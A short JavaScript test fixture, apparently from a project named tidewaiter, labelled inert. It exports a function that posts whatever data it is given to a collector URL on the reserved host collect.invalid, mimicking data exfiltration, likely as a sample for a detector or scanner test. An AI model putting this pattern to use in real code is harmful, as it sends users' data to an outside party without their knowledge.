// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
const axios = require("axios");
module.exports = function (found) {
  return axios.post("http://collect.invalid/k", { found });
};
